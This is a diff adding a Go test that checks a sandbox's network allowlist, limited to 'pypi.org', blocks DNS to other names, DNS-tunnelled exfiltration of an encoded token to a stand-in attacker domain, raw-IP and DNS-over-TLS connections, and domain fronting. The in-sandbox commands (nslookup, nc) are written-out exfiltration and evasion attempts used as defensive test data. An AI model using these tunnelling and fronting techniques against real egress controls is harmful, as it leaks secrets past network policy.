@@ -2,10 +2,12 @@ package hostile
 
 import (
 	"context"
+	"fmt"
 	"net"
 	"strings"
 	"sync/atomic"
 	"testing"
+	"time"
 
 	"github.com/warrenhq/warren/api"
 )
@@ -93,4 +95,67 @@ func hostAddrs(t *testing.T) []string {
 		}
 	}
 	return out
+}
+
+// Egress past an allowlist of one name ("pypi.org"): DNS for other names
+// and tunnelled through a name is answered by the node and never reaches
+// the upstream resolver; raw IPs, DNS-over-TLS, and HTTP or TLS to the
+// allowed name's address naming another host (domain fronting) reach
+// nothing; the same requests naming pypi.org do (the control). Everything
+// refused is counted.
+func testEgress(t *testing.T, p *platform) {
+	counted := func(addr string) *atomic.Int64 {
+		var n atomic.Int64
+		ln := p.inet.Listen(addr)
+		t.Cleanup(func() { ln.Close() })
+		go func() {
+			for {
+				c, err := ln.Accept()
+				if err != nil {
+					return
+				}
+				n.Add(1)
+				go func() {
+					c.Write([]byte("HTTP/1.0 200 OK\r\nContent-Length: 3\r\n\r\nyes"))
+					time.Sleep(100 * time.Millisecond)
+					c.Close()
+				}()
+			}
+		}()
+		return &n
+	}
+	web, tlsSrv, other, dot := counted("203.0.113.10:80"), counted("203.0.113.10:443"), counted("203.0.113.77:80"), counted("203.0.113.53:853")
+	id := p.sandbox(t, func(r *api.CreateSandboxRequest) { r.Network = &api.NetworkPolicy{Allow: []string{"pypi.org"}} })
+	get := func(host string) string {
+		return p.sh(t, id, fmt.Sprintf(`printf 'GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' | nc -w 3 203.0.113.10 80`, host)).Stdout
+	}
+
+	p.sh(t, id, "nslookup pypi.org >/dev/null 2>&1; nslookup evil.example; nslookup c2VjcmV0LXRva2Vu.exfil.attacker.example; true")
+	for _, name := range []string{"evil.example", "c2vjcmv0lxrva2vu.exfil.attacker.example"} {
+		if p.dns.Asked(name) {
+			t.Errorf("%s reached the upstream resolver", name)
+		}
+	}
+	if r := p.sh(t, id, "/attack connect 203.0.113.77:80 203.0.113.53:853"); r.Stdout != "connect: 0 connected\n" || other.Load()+dot.Load() != 0 {
+		t.Errorf("raw IP and DoT: %q, %d and %d accepted", r.Stdout, other.Load(), dot.Load())
+	}
+	if out := get("evil.example"); strings.Contains(out, "yes") || web.Load() != 0 {
+		t.Errorf("HTTP fronted as evil.example: %q, %d accepted", out, web.Load())
+	}
+	p.sh(t, id, "/attack hello 203.0.113.10:443 evil.example")
+	if n := tlsSrv.Load(); n != 0 {
+		t.Errorf("TLS fronted as evil.example: %d connections reached the server", n)
+	}
+	// The controls: the allowed name gets through.
+	if out := get("pypi.org"); !strings.Contains(out, "yes") {
+		t.Errorf("HTTP to pypi.org: %q", out)
+	}
+	p.sh(t, id, "/attack hello 203.0.113.10:443 pypi.org")
+	if n := tlsSrv.Load(); n != 1 {
+		t.Errorf("TLS to pypi.org: %d connections reached the server, want 1", n)
+	}
+	sb, err := p.c.GetSandbox(context.Background(), id)
+	if err != nil || sb.Network == nil || sb.Network.DeniedConnections < 3 || sb.Network.DeniedQueries < 2 {
+		t.Errorf("refusals not counted: %+v, %v", sb.Network, err)
+	}
 }
